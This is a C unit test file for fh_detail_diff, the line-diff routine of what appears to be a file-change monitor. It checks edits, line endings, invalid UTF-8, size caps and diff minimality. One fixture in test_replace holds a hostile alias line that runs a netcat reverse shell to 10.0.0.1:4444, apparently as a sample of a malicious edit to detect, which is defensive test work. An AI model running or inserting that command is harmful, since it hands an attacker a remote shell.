/* test_detail_diff.c - unit tests for fh_detail_diff, the line diff of a modified text item. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "common/common.h"
#include "persist/persist.h"

static json_t *diff(const char *o, const char *n)
{
	json_t *j = fh_detail_diff(o, strlen(o), n, strlen(n));

	assert_non_null(j);
	return j;
}

/* A list as "N:text|N:text" for exact comparison. */
static char *list_str(json_t *j, const char *name)
{
	struct fh_buf b = { 0 };
	json_t *arr = json_object_get(j, name), *e;
	size_t i;

	assert_true(json_is_array(arr));
	fh_buf_append(&b, "", 0);
	json_array_foreach(arr, i, e)
	{
		json_t *t = json_object_get(e, "text");

		assert_true(json_is_integer(json_object_get(e, "line")));
		assert_true(json_is_string(t));
		if (i)
			fh_buf_append(&b, "|", 1);
		fh_buf_append_u64(&b, (uint64_t)json_integer_value(json_object_get(e, "line")));
		fh_buf_append(&b, ":", 1);
		fh_buf_append(&b, json_string_value(t), json_string_length(t));
	}
	return b.data;
}

static void expect(const char *o, const char *n, const char *added, const char *removed)
{
	json_t *j = diff(o, n);
	char *a = list_str(j, "added"), *r = list_str(j, "removed");

	assert_string_equal(a, added);
	assert_string_equal(r, removed);
	assert_null(json_object_get(j, "truncated"));
	assert_null(json_object_get(j, "approximate"));
	free(a);
	free(r);
	json_decref(j);
}

static void test_identical(void **state)
{
	(void)state;
	expect("", "", "", "");
	expect("a\nb\n", "a\nb\n", "", "");
	expect("a\nb", "a\nb", "", "");
}

static void test_append(void **state)
{
	(void)state;
	expect("a\nb\n", "a\nb\nc\n", "3:c", "");
	expect("a\nb", "a\nb\nc", "3:c", ""); /* the missing newline is no change */
}

static void test_insert_middle(void **state)
{
	(void)state;
	expect("a\nb\nc\nd\n", "a\nb\nX\nY\nc\nd\n", "3:X|4:Y", "");
}

static void test_delete(void **state)
{
	(void)state;
	expect("a\nb\nc\nd\n", "a\nd\n", "", "2:b|3:c");
	expect("a\nb\nc\n", "b\nc\n", "", "1:a");
}

static void test_replace(void **state)
{
	(void)state;
	expect("a\nb\nc\n", "a\nB\nc\n", "2:B", "2:b");
	expect("alias ls=ls\n", "alias ls='nc -e /bin/sh 10.0.0.1 4444'\n",
	       "1:alias ls='nc -e /bin/sh 10.0.0.1 4444'", "1:alias ls=ls");
}

static void test_reorder(void **state)
{
	(void)state;
	/* Swapping two lines: one moves, which is one removal and one addition. */
	expect("a\nb\n", "b\na\n", "2:a", "1:a");
	expect("a\nb\nc\n", "c\na\nb\n", "1:c", "3:c");
}

static void test_empty_sides(void **state)
{
	(void)state;
	expect("", "x\ny\n", "1:x|2:y", "");
	expect("x\ny\n", "", "", "1:x|2:y");
	expect("\n", "", "", "1:");
	expect("", "\n\n", "1:|2:", "");
}

static void test_no_trailing_newline(void **state)
{
	(void)state;
	expect("a\nb", "a\nb\n", "", ""); /* the terminator is not part of the line */
	expect("a", "a\nz", "2:z", "");
	expect("a\n", "a\n\n", "2:", "");
}

static void test_crlf(void **state)
{
	(void)state;
	/* One '\r' before '\n' belongs to the terminator: neither compared nor shown. */
	expect("a\r\nb\r\n", "a\nb\n", "", "");
	expect("a\r\nb\r\n", "a\r\nc\r\n", "2:c", "2:b");
	expect("a\r\r\n", "a\r\n", "1:a", "1:a\r"); /* only one \r is stripped */
	expect("x", "x\r", "", "");
}

static void test_duplicates(void **state)
{
	(void)state;
	expect("a\nb\na\n", "a\na\n", "", "2:b");
	expect("a\na\na\n", "a\na\n", "", "3:a");
	expect("x\na\nx\n", "x\nx\na\nx\n", "2:x", "");
}

static void test_invalid_utf8_and_nul(void **state)
{
	static const char o[] = "ok\n";
	static const char n[] = "ok\n\xff\xfe x\nA\0B\n";
	json_t *j = fh_detail_diff(o, sizeof(o) - 1, n, sizeof(n) - 1);
	json_t *arr = json_object_get(j, "added"), *t;

	(void)state;
	assert_non_null(j);
	assert_int_equal(json_array_size(arr), 2);
	t = json_object_get(json_array_get(arr, 0), "text");
	assert_string_equal(json_string_value(t), "\xEF\xBF\xBD\xEF\xBF\xBD x");
	t = json_object_get(json_array_get(arr, 1), "text");
	assert_int_equal(json_string_length(t), 3);
	assert_memory_equal(json_string_value(t), "A\0B", 3);
	assert_int_equal(json_integer_value(json_object_get(json_array_get(arr, 1), "line")), 3);
	json_decref(j);
}

static char *numbered(const char *prefix, size_t count, size_t *ret_len)
{
	struct fh_buf b = { 0 };
	size_t i;

	fh_buf_append(&b, "", 0);
	for (i = 0; i < count; i++) {
		fh_buf_append(&b, prefix, strlen(prefix));
		fh_buf_append_u64(&b, i);
		fh_buf_append(&b, "\n", 1);
	}
	assert_false(b.oom);
	*ret_len = b.len;
	return b.data;
}

static void test_item_cap(void **state)
{
	size_t len;
	char *n = numbered("l", FH_DETAIL_MAX_ITEMS + 3, &len);
	json_t *j = fh_detail_diff("", 0, n, len);

	(void)state;
	assert_non_null(j);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_integer_value(json_object_get(j, "added_total")),
			 FH_DETAIL_MAX_ITEMS + 3);
	assert_null(json_object_get(j, "removed_total"));
	assert_null(json_object_get(j, "approximate"));
	assert_int_equal(json_array_size(json_object_get(j, "added")), FH_DETAIL_MAX_ITEMS);
	assert_int_equal(
	    json_integer_value(json_object_get(
		json_array_get(json_object_get(j, "added"), FH_DETAIL_MAX_ITEMS - 1), "line")),
	    FH_DETAIL_MAX_ITEMS);
	json_decref(j);
	free(n);
}

static void test_line_and_byte_bounds(void **state)
{
	size_t len;
	char *n = numbered("", FH_DIFF_MAX_LINES + 5, &len), *big;
	json_t *j = fh_detail_diff(n, len, n, len);

	(void)state;
	assert_non_null(j);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_array_size(json_object_get(j, "added")), 0);
	assert_int_equal(json_array_size(json_object_get(j, "removed")), 0);
	json_decref(j);

	j = fh_detail_diff("", 0, n, len);
	assert_non_null(j);
	assert_int_equal(json_integer_value(json_object_get(j, "added_total")), FH_DIFF_MAX_LINES);
	json_decref(j);
	free(n);

	/* Past FH_DETAIL_MAX_INPUT: a change after the bound is not seen. */
	big = malloc(FH_DETAIL_MAX_INPUT + 10);
	assert_non_null(big);
	memset(big, 'x', FH_DETAIL_MAX_INPUT + 10);
	big[FH_DETAIL_MAX_INPUT + 5] = '\n';
	j = fh_detail_diff(big, FH_DETAIL_MAX_INPUT + 10, big, FH_DETAIL_MAX_INPUT + 2);
	assert_non_null(j);
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_array_size(json_object_get(j, "added")), 0);
	assert_int_equal(json_array_size(json_object_get(j, "removed")), 0);
	json_decref(j);
	free(big);
}

static void test_approximate(void **state)
{
	size_t ol, nl;
	char *o = numbered("old", FH_DIFF_MAX_LINES, &ol),
	     *n = numbered("new", FH_DIFF_MAX_LINES, &nl);
	json_t *j;

	(void)state;
	/* Keep a common first and last line: the middle alone falls back. */
	memcpy(n, "old0\n", 5);
	memcpy(n + nl - 10, o + ol - 10, 10);
	j = fh_detail_diff(o, ol, n, nl);
	assert_non_null(j);
	assert_true(json_is_true(json_object_get(j, "approximate")));
	assert_true(json_is_true(json_object_get(j, "truncated")));
	assert_int_equal(json_integer_value(json_object_get(j, "added_total")),
			 FH_DIFF_MAX_LINES - 2);
	assert_int_equal(json_integer_value(json_object_get(j, "removed_total")),
			 FH_DIFF_MAX_LINES - 2);
	assert_int_equal(json_integer_value(json_object_get(
			     json_array_get(json_object_get(j, "removed"), 0), "line")),
			 2);
	json_decref(j);
	free(o);
	free(n);
}

static void test_exact_near_cap(void **state)
{
	size_t len, i, line = 0;
	char *o = numbered("k", 2000, &len), *n = strdup(o);
	json_t *j;

	(void)state;
	/* Every 5th line changed: 400 + 400 edits, under the edit cap, so still exact. */
	assert_non_null(n);
	for (i = 0; i < len; i++)
		if (i == 0 || n[i - 1] == '\n')
			n[i] = (char)(line++ % 5 == 0 ? 'K' : 'k');
	j = fh_detail_diff(o, len, n, len);
	assert_non_null(j);
	assert_null(json_object_get(j, "approximate"));
	assert_null(json_object_get(j, "truncated"));
	i = json_array_size(json_object_get(j, "added"));
	assert_int_equal(i, json_array_size(json_object_get(j, "removed")));
	assert_int_equal(i, 400);
	assert_int_equal(json_integer_value(json_object_get(
			     json_array_get(json_object_get(j, "removed"), 399), "line")),
			 1996);
	json_decref(j);
	free(o);
	free(n);
}

/* Splits s into lines as fh_detail_diff does, for the single-letter lines used below. */
static size_t letters(const char *s, char *out)
{
	size_t n = 0;

	for (; *s; s += 2)
		out[n++] = *s;
	return n;
}

static size_t lcs(const char *a, size_t n, const char *b, size_t m)
{
	static size_t t[32][32];
	size_t i, j;

	for (i = 0; i <= n; i++) {
		for (j = 0; j <= m; j++) {
			if (!i || !j)
				t[i][j] = 0;
			else if (a[i - 1] == b[j - 1])
				t[i][j] = t[i - 1][j - 1] + 1;
			else
				t[i][j] = t[i - 1][j] > t[i][j - 1] ? t[i - 1][j] : t[i][j - 1];
		}
	}
	return t[n][m];
}

/* Applies the diff to old and checks that the result is new. */
static void check_apply(json_t *j, const char *a, size_t n, const char *b, size_t m)
{
	json_t *added = json_object_get(j, "added"), *removed = json_object_get(j, "removed");
	char kept[32], out[32];
	size_t i, k = 0, r = 0, ai = 0, o = 0;

	for (i = 0; i < n; i++) {
		json_t *e = json_array_get(removed, r);

		if (e && (size_t)json_integer_value(json_object_get(e, "line")) == i + 1)
			r++;
		else
			kept[k++] = a[i];
	}
	assert_int_equal(r, json_array_size(removed));
	for (i = 0; i < m; i++) {
		json_t *e = json_array_get(added, ai);

		if (e && (size_t)json_integer_value(json_object_get(e, "line")) == i + 1) {
			out[i] = json_string_value(json_object_get(e, "text"))[0];
			ai++;
		} else {
			assert_true(o < k);
			out[i] = kept[o++];
		}
	}
	assert_int_equal(ai, json_array_size(added));
	assert_int_equal(o, k);
	assert_memory_equal(out, b, m);
}

static void test_minimal_random(void **state)
{
	unsigned seed = 12345, round;

	(void)state;
	for (round = 0; round < 300; round++) {
		char os[64], ns[64], a[32], b[32];
		size_t on, nn, i, n, m;
		json_t *j;

		seed = seed * 1103515245u + 12345u;
		on = (seed >> 16) % 16;
		seed = seed * 1103515245u + 12345u;
		nn = (seed >> 16) % 16;
		for (i = 0; i < on + nn; i++) {
			char *p = i < on ? &os[2 * i] : &ns[2 * (i - on)];

			seed = seed * 1103515245u + 12345u;
			p[0] = (char)('a' + (seed >> 16) % (1 + round % 4));
			p[1] = '\n';
		}
		os[2 * on] = '\0';
		ns[2 * nn] = '\0';
		n = letters(os, a);
		m = letters(ns, b);
		j = diff(os, ns);
		assert_null(json_object_get(j, "approximate"));
		assert_int_equal(json_array_size(json_object_get(j, "added")) +
				     json_array_size(json_object_get(j, "removed")),
				 n + m - 2 * lcs(a, n, b, m));
		check_apply(j, a, n, b, m);
		json_decref(j);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_identical),
		cmocka_unit_test(test_append),
		cmocka_unit_test(test_insert_middle),
		cmocka_unit_test(test_delete),
		cmocka_unit_test(test_replace),
		cmocka_unit_test(test_reorder),
		cmocka_unit_test(test_empty_sides),
		cmocka_unit_test(test_no_trailing_newline),
		cmocka_unit_test(test_crlf),
		cmocka_unit_test(test_duplicates),
		cmocka_unit_test(test_invalid_utf8_and_nul),
		cmocka_unit_test(test_item_cap),
		cmocka_unit_test(test_line_and_byte_bounds),
		cmocka_unit_test(test_approximate),
		cmocka_unit_test(test_exact_near_cap),
		cmocka_unit_test(test_minimal_random),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
